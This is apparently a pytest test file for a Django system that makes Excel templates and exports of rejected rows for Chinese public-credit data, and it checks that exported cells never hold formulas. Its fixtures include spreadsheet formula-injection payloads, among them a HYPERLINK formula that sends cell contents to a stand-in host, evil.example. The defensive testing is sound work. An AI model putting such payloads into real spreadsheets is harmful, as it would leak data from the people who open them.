"""Files for people: category templates, rejected rows to correct, and no formula in any exported cell.

The files are opened with openpyxl and checked cell by cell, and fed back through the real import.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from openpyxl import Workbook

from xinyong.catalog.models import Category, Field
from xinyong.catalog.selectors import fields_of
from xinyong.core.clock import LOCAL_TZ
from xinyong.core.identifiers import (
    is_valid_uscc,
    make_resident_id,
    make_uscc,
    validate_person_id,
)
from xinyong.intake import spreadsheets
from xinyong.intake.models import Batch, RejectedRow, RejectedRowStatus
from xinyong.intake.schema import schema_of
from xinyong.intake.services import ImportResult, import_file
from xinyong.intake.spreadsheets import safe_cell, safe_value
from xinyong.intake.validation import RowValidator
from xinyong.org.models import Unit
from xinyong.records.models import Record

CATEGORIES = ["admin_penalty", "admin_license", "legal_person", "natural_person"]
# The department that sends each category's template back in the round trip.
SENDER = {
    "admin_penalty": "zhzfj",
    "admin_license": "zwfwzx",
    "legal_person": "zwfwzx",
    "natural_person": "pcs",
}
CHOICE_TYPES = {"choice", "multi_choice", "party_category", "id_type"}
RED = "FFC00000"
BAD_FILL = "FFFFC7CE"

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]


# -- helpers ------------------------------------------------------------------------------------------------


def _category(code: str) -> Category:
    return Category.objects.get(code=code, version=1)


def _open(data: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(data))


def _import(path: Path, code: str, unit: str, *, at: str = "2020-11-26T10:00") -> ImportResult:
    submitted = dt.datetime.fromisoformat(at).replace(tzinfo=LOCAL_TZ)
    return import_file(
        path=path, category_code=code, department=Unit.objects.get(code=unit), submitted_at=submitted
    )


def _header(sheet: Any, row: int = 2) -> list[str]:
    return [c.value for c in sheet[row] if c.value is not None]


def _column(sheet: Any, name: str, row: int = 2) -> int:
    return _header(sheet, row).index(name) + 1


# -- formula injection ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_would_run_as_a_formula_is_neutralised(text: str) -> None:
    assert safe_value(text) == "'" + text
    cell = safe_cell(text)
    assert cell.value == "'" + text
    assert cell.data_type == "s"


@pytest.mark.parametrize("number", [-5, -1.5, Decimal("-2.50"), 0, 3])
def test_numbers_stay_numbers_even_negative(number: Any) -> None:
    cell = safe_cell(number)
    assert cell.value == number
    assert cell.data_type == "n"


def test_other_values_are_kept_and_text_is_always_text() -> None:
    assert safe_value("江阴市利港恒远机械有限公司") == "江阴市利港恒远机械有限公司"
    assert safe_value("'=1+1") == "'=1+1"  # already neutral: not prefixed twice
    assert safe_value("a=b") == "a=b"  # only a leading trigger matters
    assert safe_value(None) is None
    assert safe_value(True) is True
    assert safe_value(dt.date(2020, 11, 19)) == dt.date(2020, 11, 19)
    # Excel holds no time zones: an aware instant is written in Beijing time.
    aware = dt.datetime(2020, 11, 19, 2, 0, tzinfo=dt.UTC)
    assert safe_value(aware) == dt.datetime(2020, 11, 19, 10, 0)
    # Control characters cannot be stored in an .xlsx file; tabs inside text can.
    assert safe_value("ab\x00c\x07d\te") == "abcd\te"
    # An error literal stays text rather than becoming an error cell.
    assert safe_cell("#N/A").data_type == "s"
    assert len(str(safe_value("长" * 40_000))) == 32_767


def test_neutralised_cells_are_text_in_the_saved_file(tmp_path: Path) -> None:
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("测试")
    sheet.append([safe_cell(value, sheet) for value in [*FORMULAS, -7, -2.5]])
    data = spreadsheets.workbook_bytes(workbook)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml and b"<f " not in xml
    cells = next(_open(data)["测试"].iter_rows(min_row=1, max_row=1))
    for cell, text in zip(cells, FORMULAS, strict=False):
        assert cell.data_type == "s"
        # XML reads a carriage return back as a line feed; the quote in front is what counts.
        assert cell.value == "'" + text.replace("\r", "\n")
    assert (cells[-2].value, cells[-2].data_type) == (-7, "n")
    assert (cells[-1].value, cells[-1].data_type) == (-2.5, "n")


def test_workbook_bytes_neutralises_cells_written_around_safe_cell() -> None:
    workbook = Workbook()
    workbook.active["A1"] = "=1+1"
    workbook.active["A2"] = "@SUM(A1)"
    sheet = _open(spreadsheets.workbook_bytes(workbook)).active
    assert (sheet["A1"].value, sheet["A1"].data_type) == ("'=1+1", "s")
    assert sheet["A2"].value == "'@SUM(A1)"


def test_workbook_bytes_refuses_a_streamed_formula() -> None:
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("x")
    sheet.append(["=1+1"])  # not made by safe_cell: openpyxl would write a formula
    with pytest.raises(RuntimeError, match="formula"):
        spreadsheets.workbook_bytes(workbook)


# -- templates ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("code", CATEGORIES)
def test_template_lays_out_every_field_for_people(code: str, reference_data: Any, frozen_now: Any) -> None:
    category = _category(code)
    fields = fields_of(category)
    book = _open(spreadsheets.template_xlsx(category, fields))
    assert book.sheetnames[:2] == [category.name, "填报说明"]
    sheet = book.worksheets[0]

    title = sheet["A1"].value
    assert category.name in title and f"第{category.version}版" in title and category.code in title
    assert str(sheet.merged_cells.ranges).count("A1:") == (1 if len(fields) > 1 else 0)
    assert sheet.freeze_panes == "A3"

    # The header is exactly the field names, in catalog order; required ones red, with a note.
    assert [c.value for c in sheet[2]] == [f.name for f in fields]
    for field, head, example in zip(fields, sheet[2], sheet[3], strict=True):
        letter = head.column_letter
        comment = head.comment.text
        assert field.code in comment
        if field.required:
            assert head.font.color.rgb == RED
            assert comment.startswith("（必填）")
        else:
            assert head.font.color is None or head.font.color.rgb != RED
            assert comment.startswith("（选填）")
        assert sheet.column_dimensions[letter].width >= 10
        if field.type in ("uscc", "person_id", "text"):
            # Text columns, the cell and the whole column: Excel keeps an 18-digit number as typed.
            assert example.number_format == "@"
            assert sheet.column_dimensions[letter].number_format == "@"
        if field.type == "date":
            assert sheet.column_dimensions[letter].number_format == "yyyy-mm-dd"
            if example.value is not None:
                assert isinstance(example.value, dt.datetime)
                assert example.number_format == "yyyy-mm-dd"
        if field.type == "uscc" and example.value is not None:
            assert example.data_type == "s" and is_valid_uscc(example.value)
        if field.type == "person_id" and example.value is not None:
            assert example.data_type == "s"
            validate_person_id(example.value, today=dt.date(2020, 11, 26))

    # Drop-downs for every field with a fixed list of values.
    validations = {str(v.sqref): v for v in sheet.data_validations.dataValidation}
    for index, field in enumerate(fields, start=1):
        if field.type not in CHOICE_TYPES:
            continue
        letter = openpyxl.utils.get_column_letter(index)
        validation = validations[f"{letter}3:{letter}1048576"]
        assert validation.type == "list"
        for choice in field.choices:
            assert choice in validation.formula1
        # Several values in one cell are allowed for a multi-choice field.
        assert validation.showErrorMessage is (field.type != "multi_choice")

    notes = book["填报说明"]
    text = "\n".join(str(v) for row in notes.iter_rows(values_only=True) for v in row if v is not None)
    assert category.legal_source in text
    assert category.cycle_source in text
    assert (
        f"{category.effective_from.year}年{category.effective_from.month}月{category.effective_from.day}日"
        in text
    )
    table = [row for row in notes.iter_rows(values_only=True) if row[0] == "序号"]
    assert table == [
        ("序号", "字段名称", "字段编码", "类型", "必填", "可接受的列名", "可选值", "填写说明", "示例")
    ]
    rows = {row[2]: row for row in notes.iter_rows(values_only=True) if isinstance(row[0], int)}
    assert list(rows) == [f.code for f in fields]
    for position, field in enumerate(fields, start=1):
        number, name, _, kind, required, aliases, choices, help_text, _ = rows[field.code]
        assert (number, name) == (position, field.name)
        assert kind.startswith(field.get_type_display())
        assert required == ("必填" if field.required else "选填")
        assert all(alias in aliases for alias in field.aliases)
        assert all(choice in (choices or "") for choice in field.choices)
        assert (help_text or "") == field.help_text


def test_penalty_template_cycle_and_example_details(reference_data: Any, frozen_now: Any) -> None:
    category = _category("admin_penalty")
    book = _open(spreadsheets.template_xlsx(category, fields_of(category)))
    sheet = book.worksheets[0]
    row = dict(zip(_header(sheet), [c.value for c in sheet[3]], strict=False))
    assert row["行政相对人名称"] == "江阴市利港恒远机械有限公司"  # the catalog's example
    assert row["行政处罚决定书文号"] == "澄利综执罚〔2020〕12号"
    assert row["处罚决定日期"] == dt.datetime(2020, 11, 19)
    # The catalog's placeholder 91320281MA1XXXXXXX keeps its look and gains valid check characters.
    assert row["统一社会信用代码"].startswith("91320281MA1XXXXX") and is_valid_uscc(row["统一社会信用代码"])
    assert row["行政相对人类别"] == "法人及非法人组织"
    assert row["处罚类别"] == "警告"
    notes = "\n".join(
        str(v) for r in book["填报说明"].iter_rows(values_only=True) for v in r if v is not None
    )
    assert "作出决定之日起 7 个工作日内" in notes


def test_license_example_dates_keep_their_order(reference_data: Any, frozen_now: Any) -> None:
    category = _category("admin_license")
    row = spreadsheets.example_row(category, fields_of(category), today=dt.date(2020, 11, 26))
    assert row["XK_YXQZ"] <= row["XK_YXQZI"]
    assert row["XK_JDRQ"] <= row["XK_YXQZI"]


@pytest.mark.parametrize("code", CATEGORIES)
def test_example_row_passes_the_checks_even_before_the_catalog_example_date(
    code: str, reference_data: Any
) -> None:
    category = _category(code)
    fields = fields_of(category)
    early = dt.date(2020, 3, 2)  # before the example decision date 2020-11-19
    row = spreadsheets.example_row(category, fields, today=early)
    checked = RowValidator(schema_of(category, fields), submitted_on=early).check(row)
    assert checked.ok, checked.errors


@pytest.mark.parametrize("code", CATEGORIES)
def test_downloaded_template_imports_cleanly(
    code: str, reference_data: Any, frozen_now: Any, tmp_path: Path
) -> None:
    category = _category(code)
    unit = Unit.objects.get(code=SENDER[code])
    data = spreadsheets.template_xlsx(
        category, fields_of(category), unit=spreadsheets.UnitExample(unit.name, unit.uscc)
    )
    path = spreadsheets.write_file(tmp_path / spreadsheets.template_filename(category), data)
    result = _import(path, code, SENDER[code])
    assert (result.rows, result.accepted, result.rejected) == (1, 1, 0), result.errors
    assert result.header_row == 2
    assert result.warnings == []


def test_template_filled_in_by_a_clerk_imports(reference_data: Any, frozen_now: Any, tmp_path: Path) -> None:
    category = _category("admin_penalty")
    unit = Unit.objects.get(code="zhzfj")
    data = spreadsheets.template_xlsx(
        category, fields_of(category), unit=spreadsheets.example_unit_for(category, prefer=unit)
    )
    book = _open(data)
    sheet = book.worksheets[0]
    names = _header(sheet)
    person = make_resident_id("320281", dt.date(1990, 1, 2), 5)
    typed = {
        "行政相对人名称": "李四",
        "行政相对人类别": "自然人",
        "证件类型": "居民身份证",
        "证件号码": person,  # typed into the text column: stays text
        "行政处罚决定书文号": "澄利综执罚〔2020〕13号",
        "违法行为类型": "占道经营",
        "违法事实": "在利港街道滨江路占道经营",
        "处罚依据": "《城市市容和环境卫生管理条例》第三十六条",
        "处罚类别": "警告、罚款",
        "处罚内容": "警告并处罚款",
        "罚款金额（万元）": 0.05,
        "处罚决定日期": "2020年11月20日",
        "处罚机关": unit.name,
        "处罚机关统一社会信用代码": unit.uscc,
        "数据来源单位": unit.name,
        "数据来源单位统一社会信用代码": unit.uscc,
    }
    for name, value in typed.items():
        sheet.cell(row=4, column=names.index(name) + 1, value=value)
    # The example row says who the authority is: the clerk's own department.
    assert sheet.cell(row=3, column=names.index("处罚机关") + 1).value == unit.name
    path = tmp_path / "filled.xlsx"
    book.save(path)
    result = _import(path, "admin_penalty", "zhzfj")
    assert (result.rows, result.accepted, result.rejected) == (2, 2, 0), result.errors
    record = Record.objects.get(key__startswith="澄利综执罚〔2020〕13号")
    assert record.data["CF_ZJHM"] == person
    assert record.data["CF_CFLB"] == ["警告", "罚款"]


def test_catalog_text_that_looks_like_a_formula_is_neutralised_in_the_template(
    reference_data: Any, frozen_now: Any, tmp_path: Path
) -> None:
    category = _category("admin_penalty")
    Field.objects.filter(category=category, code="CF_SY").update(
        example='=HYPERLINK("http://evil.example","x")'
    )
    Field.objects.filter(category=category, code="BZ").update(help_text="-2+3", example="@SUM(A1)")
    zhzfj = Unit.objects.get(code="zhzfj")
    # The department's own template: its example row names the department as the deciding authority.
    data = spreadsheets.template_xlsx(
        category, fields_of(category), unit=spreadsheets.UnitExample(zhzfj.name, zhzfj.uscc)
    )
    book = _open(data)
    sheet = book.worksheets[0]
    names = _header(sheet)
    fact = sheet.cell(row=3, column=names.index("违法事实") + 1)
    assert (fact.value, fact.data_type) == ('\'=HYPERLINK("http://evil.example","x")', "s")
    assert sheet.cell(row=3, column=names.index("备注") + 1).value == "'@SUM(A1)"
    notes = [v for row in book["填报说明"].iter_rows(values_only=True) for v in row if isinstance(v, str)]
    assert "'-2+3" in notes and "-2+3" not in notes
    # The quote is Excel's text marker: the import takes the text back without it.
    path = spreadsheets.write_file(tmp_path / "t.xlsx", data)
    assert _import(path, "admin_penalty", "zhzfj").accepted == 1
    record = Record.objects.get()
    assert record.data["CF_SY"] == '=HYPERLINK("http://evil.example","x")'
    assert record.data["BZ"] == "@SUM(A1)"


# -- the template command -------------------------------------------------------------------------------------


def test_template_command_writes_the_file(reference_data: Any, frozen_now: Any, tmp_path: Path) -> None:
    out = io.StringIO()
    target = tmp_path / "out" / "penalty.xlsx"
    call_command("template", "admin_penalty", "-o", str(target), stdout=out)
    assert "已生成模板" in out.getvalue() and "30 个字段" in out.getvalue()
    sheet = openpyxl.load_workbook(target).worksheets[0]
    assert [c.value for c in sheet[2]] == [f.name for f in fields_of(_category("admin_penalty"))]
    # The example names the category's first providing unit as authority: that unit's import takes it.
    example = spreadsheets.example_unit_for(_category("admin_penalty"))
    assert example is not None
    assert _import(target, "admin_penalty", Unit.objects.get(uscc=example.uscc).code).accepted == 1


def test_template_command_default_name_and_errors(
    reference_data: Any, frozen_now: Any, tmp_path: Path, monkeypatch: Any
) -> None:
    monkeypatch.chdir(tmp_path)
    call_command("template", "natural_person", stdout=io.StringIO())
    assert (tmp_path / "自然人基础信息_报送模板_v1.xlsx").is_file()
    with pytest.raises(CommandError, match="信息类别“nope”不存在"):
        call_command("template", "nope", stdout=io.StringIO())
    with pytest.raises(CommandError, match=r"\.xlsx"):
        call_command("template", "natural_person", "-o", str(tmp_path / "x.csv"), stdout=io.StringIO())


# -- rejected rows ----------------------------------------------------------------------------------------------

# The clerk's own layout: a title row, columns in their own order, older header names.
CLERK_HEADER = [
    "处罚决定日期",
    "行政相对人名称",
    "行政相对人类别",
    "行政相对人代码_1(统一社会信用代码)",
    "证件类型",
    "证件号码",
    "行政处罚决定书文号",
    "违法行为类型",
    "违法事实",
    "处罚依据",
    "处罚类别",
    "处罚内容",
    "罚款金额（万元）",
    "处罚机关",
    "处罚机关统一社会信用代码",
]
COMPANY = make_uscc("91", "320281", "MA1MY0K5")
PERSON = make_resident_id("320281", dt.date(1985, 3, 12), 23)
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def _clerk_row(doc: str, **changes: str) -> list[str]:
    unit = Unit.objects.get(code="zhzfj")
    row = {
        "处罚决定日期": "2020-11-19",
        "行政相对人名称": "江阴市利港恒远机械有限公司",
        "行政相对人类别": "法人及非法人组织",
        "行政相对人代码_1(统一社会信用代码)": COMPANY,
        "证件类型": "",
        "证件号码": "",
        "行政处罚决定书文号": doc,
        "违法行为类型": "未按规定设置消防安全标志",
        "违法事实": "经查属实",
        "处罚依据": "《中华人民共和国消防法》第六十条",
        "处罚类别": "警告",
        "处罚内容": "警告",
        "罚款金额（万元）": "",
        "处罚机关": unit.name,
        "处罚机关统一社会信用代码": unit.uscc,
    }
    row.update(changes)
    return [row[name] for name in CLERK_HEADER]


def _clerk_csv(path: Path) -> Path:
    rows = [
        _clerk_row("澄综执罚〔2020〕1号"),  # row 3: good
        _clerk_row("澄综执罚〔2020〕2号", 处罚决定日期="2020年2月30日", 违法事实=EVIL),  # row 4
        _clerk_row(
            "澄综执罚〔2020〕3号",
            **{"行政相对人代码_1(统一社会信用代码)": "91320281MA1XXXXXX1", "违法事实": ""},
        ),
        _clerk_row(
            "澄综执罚〔2020〕4号",
            处罚类别="警告、罚款",
            处罚内容="警告并处罚款",
            **{"罚款金额（万元）": "-2"},
        ),
        _clerk_row(
            "澄综执罚〔2020〕5号",
            行政相对人名称="某甲",
            行政相对人类别="自然人",
            证件类型="居民身份证",
            证件号码=PERSON[:-1] + ("0" if PERSON[-1] != "0" else "1"),
            **{"行政相对人代码_1(统一社会信用代码)": ""},
        ),
    ]
    with path.open("w", encoding="utf-8-sig", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["江阴市利港街道综合执法局行政处罚信息公示表"])
        writer.writerow(CLERK_HEADER)
        writer.writerows(rows)
    return path


def _rejected(result: ImportResult) -> tuple[Batch, list[RejectedRow]]:
    batch = Batch.objects.get(pk=result.batch)
    return batch, list(RejectedRow.objects.filter(batch=batch).order_by("row_number"))


def _by_row(sheet: Any) -> dict[int, dict[str, Any]]:
    names = _header(sheet)
    out: dict[int, dict[str, Any]] = {}
    for cells in sheet.iter_rows(min_row=3):
        row = dict(zip(names, cells, strict=False))
        out[row["原行号"].value] = row
    return out


def test_rejected_rows_export_highlights_each_bad_cell(
    reference_data: Any, frozen_now: Any, tmp_path: Path
) -> None:
    result = _import(_clerk_csv(tmp_path / "处罚.csv"), "admin_penalty", "zhzfj")
    assert (result.accepted, result.rejected) == (1, 4)
    batch, rows = _rejected(result)
    category = batch.category
    book = _open(spreadsheets.rejected_rows_xlsx(batch, rows, fields_of(category)))
    sheet = book.worksheets[0]
    assert f"批次 {batch.pk}" in sheet["A1"].value and "处罚.csv" in sheet["A1"].value
    assert sheet.freeze_panes == "C3"

    names = _header(sheet)
    assert names[:2] == ["原行号", "错误说明"]
    catalog_order = [f.name for f in fields_of(category)]
    assert names[2:] == [n for n in catalog_order if n in names[2:]]  # catalog order, not the clerk's
    # Every column the clerk sent, plus the required and conditionally required ones; not the unused ones.
    assert {"统一社会信用代码", "证件号码", "罚款金额（万元）", "数据来源单位"} <= set(names)
    assert "工商注册号" not in names and "备注" not in names

    by_row = _by_row(sheet)
    assert sorted(by_row) == [r.row_number for r in rows] == [4, 5, 6, 7]
    for stored in rows:
        row = by_row[stored.row_number]
        for error in stored.errors:
            assert error["message"] in row["错误说明"].value
            assert f"【{error['field']}】" in row["错误说明"].value
            bad = row[error["field"]]
            assert bad.fill.fgColor.rgb == BAD_FILL
            assert error["message"] in bad.comment.text
        named = {e["field"] for e in stored.errors}
        for name, cell in row.items():
            if name not in named and name not in ("原行号", "错误说明"):
                assert cell.fill.fill_type is None and cell.comment is None, name

    # Values as received: the impossible date, the formula (neutralised), the text "-2" (neutralised too).
    assert by_row[4]["处罚决定日期"].value == "2020年2月30日"
    assert (by_row[4]["违法事实"].value, by_row[4]["违法事实"].data_type) == ("'" + EVIL, "s")
    assert by_row[4]["违法事实"].fill.fill_type is None
    assert by_row[5]["统一社会信用代码"].value == "91320281MA1XXXXXX1"
    assert by_row[5]["统一社会信用代码"].number_format == "@"
    assert by_row[5]["违法事实"].value is None and by_row[5]["违法事实"].fill.fgColor.rgb == BAD_FILL
    assert by_row[6]["罚款金额（万元）"].value == "'-2"
    assert by_row[7]["证件号码"].data_type == "s"
    # Department defaults filled in at import are shown as checked.
    unit = Unit.objects.get(code="zhzfj")
    assert by_row[4]["数据来源单位"].value == unit.name


def test_rejected_rows_corrected_in_the_file_import_again(
    reference_data: Any, frozen_now: Any, tmp_path: Path
) -> None:
    result = _import(_clerk_csv(tmp_path / "处罚.csv"), "admin_penalty", "zhzfj")
    batch, rows = _rejected(result)
    book = _open(spreadsheets.rejected_rows_xlsx(batch, rows, fields_of(batch.category)))
    sheet = book.worksheets[0]
    by_row = _by_row(sheet)
    # The clerk corrects the red cells and nothing else.
    by_row[4]["处罚决定日期"].value = "2020-11-18"
    by_row[5]["统一社会信用代码"].value = make_uscc("91", "320281", "MA1N2B3C")
    by_row[5]["违法事实"].value = "经查，未按规定设置消防安全标志"
    by_row[6]["罚款金额（万元）"].value = 0.2
    by_row[7]["证件号码"].value = PERSON
    corrected = tmp_path / "更正后.xlsx"
    book.save(corrected)

    again = _import(corrected, "admin_penalty", "zhzfj", at="2020-11-26T11:00")
    assert (again.rows, again.accepted, again.rejected) == (4, 4, 0), again.errors
    assert again.header_row == 2
    # Only the two helper columns are left out of the import.
    assert [w["message"] for w in again.warnings] == ["以下列未能识别，其内容没有导入：原行号、错误说明"]
    evil = Record.objects.get(key__startswith="澄综执罚〔2020〕2号")
    assert evil.data["CF_SY"] == EVIL  # the quote was only a marker: the text comes back as sent
    assert evil.decision_date == dt.date(2020, 11, 18)
    assert Record.objects.get(key__startswith="澄综执罚〔2020〕4号").data["CF_NR_FK"] == "0.2"
    assert Record.objects.count() == 5


def test_numbers_from_an_xlsx_are_exported_as_received(
    reference_data: Any, frozen_now: Any, tmp_path: Path
) -> None:
    unit = Unit.objects.get(code="zhzfj")
    book = Workbook()
    sheet = book.active
    sheet.append(CLERK_HEADER)
    row = _clerk_row("澄综执罚〔2020〕9号", 处罚类别="警告、罚款")
    values: list[Any] = list(row)
    values[CLERK_HEADER.index("罚款金额（万元）")] = -2  # a number cell
    values[CLERK_HEADER.index("证件号码")] = None
    values[CLERK_HEADER.index("行政相对人代码_1(统一社会信用代码)")] = 913202811234567890  # typed as a number
    sheet.append(values)
    source = tmp_path / "数值.xlsx"
    book.save(source)
    result = _import(source, "admin_penalty", unit.code)
    batch, rows = _rejected(result)
    assert len(rows) == 1
    out = _by_row(
        _open(spreadsheets.rejected_rows_xlsx(batch, rows, fields_of(batch.category))).worksheets[0]
    )[2]
    assert (out["罚款金额（万元）"].value, out["罚款金额（万元）"].data_type) == (-2, "n")
    uscc = out["统一社会信用代码"]
    assert uscc.data_type == "s" and uscc.value.isdigit() and len(uscc.value) == 18
    assert uscc.fill.fgColor.rgb == BAD_FILL


def test_export_of_a_batch_without_pending_rows_has_only_the_header(
    reference_data: Any, frozen_now: Any, tmp_path: Path
) -> None:
    result = _import(_clerk_csv(tmp_path / "处罚.csv"), "admin_penalty", "zhzfj")
    batch, _ = _rejected(result)
    RejectedRow.objects.filter(batch=batch).update(status=RejectedRowStatus.CORRECTED)
    pending = list(RejectedRow.objects.filter(batch=batch, status=RejectedRowStatus.PENDING))
    sheet = _open(spreadsheets.rejected_rows_xlsx(batch, pending, fields_of(batch.category))).worksheets[0]
    assert "共 0 行" in sheet["A1"].value
    assert sheet.max_row == 2
    assert spreadsheets.rejected_filename(batch) == f"处罚_未通过校验的数据_批次{batch.pk}.xlsx"


def test_more_rows_than_a_sheet_holds_are_cut_and_said_so(
    reference_data: Any, frozen_now: Any, tmp_path: Path, monkeypatch: Any
) -> None:
    result = _import(_clerk_csv(tmp_path / "处罚.csv"), "admin_penalty", "zhzfj")
    batch, rows = _rejected(result)
    monkeypatch.setattr(spreadsheets, "MAX_EXPORT_ROWS", 2)
    sheet = _open(
        spreadsheets.rejected_rows_xlsx(batch, rows, fields_of(batch.category), total=4)
    ).worksheets[0]
    assert "共 4 行" in sheet["A1"].value and "只含前 2 行" in sheet["A1"].value
    assert [sheet.cell(row=r, column=1).value for r in range(3, sheet.max_row + 1)] == [4, 5]
    assert "A1:B1" in {str(r) for r in sheet.merged_cells.ranges}


def test_a_long_list_of_choices_comes_from_a_hidden_sheet(
    reference_data: Any, frozen_now: Any, tmp_path: Path
) -> None:
    category = _category("admin_license")
    choices = [f"第{n}类行政许可事项（含相关的审批、核准与备案）" for n in range(1, 21)] + ["=其他, 含逗号"]
    Field.objects.filter(category=category, code="XK_XKLB").update(choices=choices, choice_aliases={})
    fields = fields_of(category)
    zwfwzx = Unit.objects.get(code="zwfwzx")
    data = spreadsheets.template_xlsx(category, fields, unit=spreadsheets.UnitExample(zwfwzx.name, zwfwzx.uscc))
    book = _open(data)
    assert book.sheetnames == ["行政许可信息", "填报说明", "可选值"]
    lists = book["可选值"]
    assert lists.sheet_state == "hidden"
    letter = openpyxl.utils.get_column_letter([f.code for f in fields].index("XK_XKLB") + 1)
    assert [lists[f"{letter}{n}"].value for n in range(1, 22)] == [*choices[:-1], "'=其他, 含逗号"]
    validation = next(v for v in book.worksheets[0].data_validations.dataValidation if letter in str(v.sqref))
    assert validation.formula1 == f"'可选值'!${letter}$1:${letter}$21"
    path = spreadsheets.write_file(tmp_path / "t.xlsx", data)
    result = _import(path, "admin_license", "zwfwzx")
    assert (result.accepted, result.rejected) == (1, 0), result.errors
